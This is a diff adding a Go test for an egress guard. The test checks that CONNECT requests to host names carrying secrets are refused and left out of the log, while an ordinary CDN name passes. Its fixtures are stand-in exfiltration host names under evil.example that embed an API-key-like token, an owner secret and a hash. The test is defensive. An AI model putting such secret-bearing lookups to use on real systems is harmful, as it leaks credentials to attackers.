@@ -305,3 +305,32 @@ func TestServeUsesTheGivenListener(t *testing.T) {
 		t.Fatalf("the guard left its listener open: %v", err)
 	}
 }
+
+// The guard sees only the name of what a page loads (a fetch, an image),
+// so it reads the name: one carrying a key, or one of the owner's secrets,
+// is refused before any lookup, and the log does not repeat it.
+func TestGuardRefusesANameCarryingASecret(t *testing.T) {
+	r := &countingResolver{}
+	known := egress.NewKnown()
+	known.SetOwner([]string{ownerSecret})
+	g, logs := startGuard(t, egress.Config{Resolver: r, Known: known})
+	for _, name := range []string{"sk-proj-abcdefghijklmnopqrstuvwx.evil.example", ownerSecret + ".evil.example",
+		"3f786850e387550fdab836ed7e6dc881de23001b.evil.example"} {
+		code, conn := rawRequest(t, g, cmdConnect, 3, []byte(name), 443)
+		if code == replyOK {
+			t.Fatalf("CONNECT %s granted", name)
+		}
+		assertClosed(t, conn)
+		if strings.Contains(logs.String(), strings.SplitN(name, ".", 2)[0]) {
+			t.Errorf("the log names the secret of %s:\n%s", name, logs.String())
+		}
+	}
+	if n := g.Stats().Refused["secret_in_host"]; n != 3 || r.n.Load() != 0 {
+		t.Errorf("Refused = %v after %d lookups", g.Stats().Refused, r.n.Load())
+	}
+	code, conn := rawRequest(t, g, cmdConnect, 3, []byte("cdn.example.com"), 443)
+	assertClosed(t, conn)
+	if r.n.Load() != 1 || g.Stats().Refused["secret_in_host"] != 3 {
+		t.Errorf("an ordinary name was refused (reply %d, %v)", code, g.Stats().Refused)
+	}
+}
